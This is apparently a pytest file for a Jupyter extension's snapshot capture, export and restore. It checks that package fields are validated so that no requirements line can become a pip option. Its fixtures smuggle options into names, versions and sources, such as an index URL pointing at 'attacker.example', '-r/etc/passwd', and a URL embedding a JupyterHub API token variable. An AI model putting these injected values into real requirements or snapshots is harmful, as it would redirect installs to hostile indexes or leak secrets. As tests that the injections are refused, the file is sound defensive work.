"""A snapshot's text cannot steer a restore: package names, versions and sources are checked with
``packaging`` at capture, on load from the store and at export; no requirements line is an option."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from pydantic import ValidationError
from tornado.httpclient import HTTPClientError

from jupyter_hybrid.snapshots import capture, cli, export, localstore
from jupyter_hybrid.snapshots.errors import SnapshotError
from jupyter_hybrid.snapshots.model import Package, Snapshot

from .test_snapshots import make_snapshot

EVIL = "evil --index-url=http://attacker.example/simple"


def fake_dist(venv: Path, name: str, version: str) -> None:
    """A dist-info folder in ``venv`` whose METADATA says ``Name: name`` (what any wheel can claim)."""
    py = venv / "bin" / "python"
    out = subprocess.run(
        [py, "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
        capture_output=True,
        text=True,
        check=True,
    )
    info = Path(out.stdout.strip()) / "evil-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
    (info / "INSTALLER").write_text("pip\n")


@pytest.mark.parametrize(
    ("name", "version", "message"),
    [
        (EVIL, "0.1", "package name 'evil --index-url=…"),
        ("evil", "0.1 --extra-index-url=http://x", "package 'evil': version '0.1 --extra"),
        ("-r/etc/passwd", "1", "package name '-r/etc/passwd' is not a valid distribution name"),
    ],
)
def test_capture_refuses_a_distribution_whose_metadata_is_not_a_requirement(tmp_path, name, version, message):
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", tmp_path / "env"], check=True)
    fake_dist(tmp_path / "env", name, version)
    with pytest.raises(SnapshotError) as e:
        capture.capture_python(str(tmp_path / "env" / "bin" / "python"))
    text = str(e.value)
    assert text.startswith("cannot snapshot this environment: ") and text.endswith(
        "; uninstall or reinstall that distribution"
    )
    assert message.rstrip("'") in text, text
    assert len(text) < 250


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ((EVIL, "0.1", "pip", "pypi"), "is not a valid distribution name (PEP 508)"),
        (("six", "1.16 --pre", "pip", "pypi"), "is not a valid version (PEP 440)"),
        (("six", "", "pip", "pypi"), "version '' is not a valid version"),
        (("six", "1.16.0", "pip", "url:https://h/x.whl --index-url=http://a"), "unknown package source"),
        (("six", "1.16.0", "pip", "url:https://h/${JUPYTERHUB_API_TOKEN}.whl"), "holds '${'"),
        (("six", "1.16.0", "pip", "url:https://h/x.whl\\"), "trailing backslash"),
        (("six", "1.16.0", "pip", "url:not a url"), "unknown package source"),
        (("six", "1.16.0", "pip", "url:;x"), "is not a URL"),
        (("six", "1.16.0", "pip", "editable:/x\n"), "unknown package source"),
        (("six", "1.16.0", "pip\n-e", "pypi"), "installer 'pip\\n-e' is not a tool name"),
        (("numpy", "1.26 --x", "conda", "conda:conda-forge"), "is not a conda version"),
        (("num py", "1.26", "conda", "conda:conda-forge"), "is not a conda package name"),
    ],
)
def test_package_fields_are_checked(fields, message):
    name, version, installer, source = fields
    with pytest.raises(ValidationError, match=None) as e:
        Package(name=name, version=version, installer=installer, source=source)
    assert message in str(e.value)


def test_valid_packages_still_pass():
    for fields in [
        ("_libgcc_mutex", "0.1", "conda", "conda:conda-forge"),
        ("openssl", "1.1.1w", "conda", "conda:conda-forge"),
        ("Foo.Bar_baz", "2.0.0rc1+local.7", "uv", "pypi"),
        ("tool", "0.3", "pip", "vcs:git+https://example.org/tool.git@0123abcd#subdirectory=py"),
        ("wheelie", "1!2.0.post3", "pip", "url:https://h.example/wheelie-2.0-py3-none-any.whl"),
    ]:
        Package(**dict(zip(("name", "version", "installer", "source"), fields, strict=True)))


def forged(packages: list[Package]) -> dict:
    """A stored body with packages that skipped validation, its id made to match (as an attacker can)."""
    base = make_snapshot([("six", "1.16.0", "pip", "pypi")])
    snap = base.model_copy(update={"packages": packages})
    return {**snap.model_dump(mode="json"), "id": snap.compute_id()}


EVIL_PKG = Package.model_construct(name=EVIL, version="0.1", installer="pip", source="pypi")


def test_export_never_writes_an_option_line():
    good = make_snapshot([("six", "1.16.0", "pip", "pypi")])
    bad = good.model_copy(update={"packages": [EVIL_PKG]})  # model_copy skips validation
    with pytest.raises(SnapshotError, match=r"^cannot export: package name 'evil --index-url=…"):
        export.export_requirements(bad)
    with pytest.raises(SnapshotError, match="cannot export"):
        export.zip_binder(bad)
    conda = Package.model_construct(name="x", version="1 --y", installer="conda", source="conda:conda-forge")
    with pytest.raises(SnapshotError, match="is not a conda version"):
        export.environment_yml(good.model_copy(update={"packages": [conda]}))
    for line in export.export_requirements(good).splitlines():
        assert line.startswith("#") or not line.startswith("-")


async def test_a_forged_stored_snapshot_is_refused_on_load(jp_fetch, jp_serverapp):
    settings = jp_serverapp.web_app.settings
    body = forged([EVIL_PKG])
    settings["jupyter_hybrid.snapshot_store"].save(settings["jupyter_hybrid.owner"], body)
    for parts, kw in [
        (("export",), {"params": {"format": "requirements"}}),
        (("restore",), {"method": "POST", "body": json.dumps({"name": "evil-restore"})}),
    ]:
        with pytest.raises(HTTPClientError) as e:
            await jp_fetch("jupyter-hybrid", "snapshots", body["id"], *parts, **kw)
        message = json.loads(e.value.response.body)["message"]
        assert e.value.code == 400, message
        assert message.startswith(f"snapshot {body['id'][:12]} is not usable: packages.0: package name 'evil")
    assert settings["jupyter_hybrid.tasks"].tasks == {}


def test_a_forged_stored_snapshot_is_refused_by_the_cli(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("JUPYTER_HYBRID_DB_URL", f"sqlite:///{tmp_path / 'hybrid.sqlite'}")
    body = forged([EVIL_PKG])
    store, _ = localstore._store()
    store.save(localstore.owner(), body)
    code = cli.main(["snapshot", "export", body["id"][:8], "--format", "requirements"])
    out, err = capsys.readouterr()
    assert code == 1 and out == ""
    assert err.startswith(f"error: snapshot {body['id'][:8]} is not usable: packages.0: package name 'evil")
    (tmp_path / "forged.json").write_text(json.dumps(body))
    assert cli.main(["snapshot", "restore", str(tmp_path / "forged.json"), "--name", "x"]) == 1
    assert "is not usable" in capsys.readouterr().err
    assert Snapshot  # the model is what refuses
